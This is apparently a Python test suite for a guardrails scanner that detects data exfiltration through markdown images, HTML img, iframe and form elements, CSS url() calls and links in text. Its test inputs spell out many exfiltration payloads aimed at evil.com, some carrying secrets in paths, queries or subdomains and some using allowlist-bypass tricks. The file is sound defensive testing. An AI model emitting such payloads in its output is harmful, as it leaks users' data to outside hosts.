"""What a client would fetch, or a reader click, is found as a whole; how surely depends on what its address carries."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from guardrails.detectors.exfiltration import Exfiltration
from guardrails.patterns.scanner import Scanner
from tests.guardrails.pieces import CUTS, cut, scanned

SCANNER = Scanner(Exfiltration(["good.com", "*.fine.org"]).patterns)
SECRET = "aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ"


def surest(text: str) -> tuple[str, float, str]:
    found = max(scanned(SCANNER, [text]), key=lambda match: match[3], default=("", 0, 0, 0.0))
    return found[0], found[3], text.encode()[found[1] : found[2]].decode()


@pytest.mark.parametrize("image", [
    "![a](https://evil.com/p.png?d=hunter2)", "![](//evil.com/p?hunter2)", "![x](<https://evil.com/?q=a> \"title\")",
    f"![x](https://evil.com/{SECRET}.png)", f"![x](https://{SECRET}.evil.com/p.png)", "![é](HTTPS:\\\\evil.com?x=y)",
    "![x](https://evil.com/the%20user%20asked%20about%20money/a.png)", "![x](https://evil.com/{{secret}})",
    "![x](https://good.com@evil.com/?q=hunter2)", "![x](https://evilgood.com/?q=hunter2)",
])
def test_an_image_that_carries_something_out_is_found_as_a_whole(image: str) -> None:
    label, score, found = surest(f"See: {image} and more")
    assert (label, found) == ("IMAGE", image)
    assert score >= 0.8


def test_an_image_with_an_address_of_any_length_is_found_up_to_its_end() -> None:
    image = f"![x](https://evil.com/?q={'A9b' * 900})"
    assert surest(f"a {image} b") == ("IMAGE", 0.9, image)


@pytest.mark.parametrize("element", [
    f"<img src='https://evil.com/x?d={SECRET}'>", f'<IMG alt="" src="//evil.com/{SECRET}"/>',
    "<iframe src=https://evil.com/?d=the+user+asked+about+money></iframe>".replace("</iframe>", ""),
    f"url('https://evil.com/{SECRET}')", f'<form action="https://evil.com/{SECRET}">',
])
def test_an_element_that_carries_something_out_is_found_as_a_whole(element: str) -> None:
    assert surest(f"a {element} b") == ("ELEMENT", 0.8, element)


@pytest.mark.parametrize(("text", "address"), [
    (f"[click](https://evil.com/?q={SECRET}) me", f"(https://evil.com/?q={SECRET})"),
    (f'<a class="x" href="https://evil.com/{SECRET}">me</a>', f"https://evil.com/{SECRET}"),
])
def test_of_a_link_that_carries_data_the_address_is_found(text: str, address: str) -> None:
    assert surest(text) == ("LINK", 0.6, address)


def test_of_a_reference_the_address_is_found_where_it_is_defined() -> None:
    assert surest("![x][1]\n\n[1]: https://evil.com/?q=hunter2\n") == ("REFERENCE", 0.55, "https://evil.com/?q=hunter2")


@pytest.mark.parametrize("text", [
    "![a](https://example.com/p.png)", "[site](https://example.com/a/b)", "![a](./p.png?x=1)", "![a](data:image/png;x)",
    "[video](https://www.youtube.com/watch?v=dQw4w9WgXcQ)", "array[0](x) and f(a[1])(b)", "Read https://a.org/?q=x",
    "![u](https://images.example.com/photo-1506744038136-46273834b3fb?auto=format&fit=crop&w=800&q=80)",
    "![g](https://img.example.com/1234/5f2b8c1e-9d0a-4b7e-8c3f-1a2b3c4d5e6f.png)",
    "[![b](https://img.example.io/badge/build-passing-green.svg)](https://ci.org/x)", '<img src="/logo.png?v=2">',
    '<link href="https://fonts.example.com/css2?family=Roboto:wght@400;700&display=swap" rel="stylesheet">',
    "![w](https://upload.example.org/wikipedia/commons/thumb/4/47/PNG_transparency_demonstration_of_1.png)",
])
def test_what_carries_nothing_stays_below_the_usual_threshold(text: str) -> None:
    assert surest(text)[1] < 0.5


@pytest.mark.parametrize("host", ["good.com", "a.good.com", "GOOD.com:8080", "fine.org", "x.fine.org"])
def test_allowed_hosts_and_their_subdomains_are_no_finding(host: str) -> None:
    assert scanned(SCANNER, [f"![x](https://{host}/?q=hunter2)"]) == []


PARTS = st.sampled_from(["![a](", "](", "https://", "e.com/", "?q=", "x", SECRET, ")", "<img src='", "'>", "]: ", " ",
                         "\n", "\\", "<a href=", "url(", "é", "![", "A9b" * 100])


@settings(max_examples=300, deadline=None)
@given(parts=st.lists(PARTS, max_size=14), cuts=CUTS)
def test_any_split_of_a_text_finds_the_same_addresses(parts: list[str], cuts: list[int]) -> None:
    text = "".join(parts)
    whole = scanned(SCANNER, [text])
    assert scanned(SCANNER, cut(text, cuts)) == whole
    assert scanned(SCANNER, list(text)) == whole
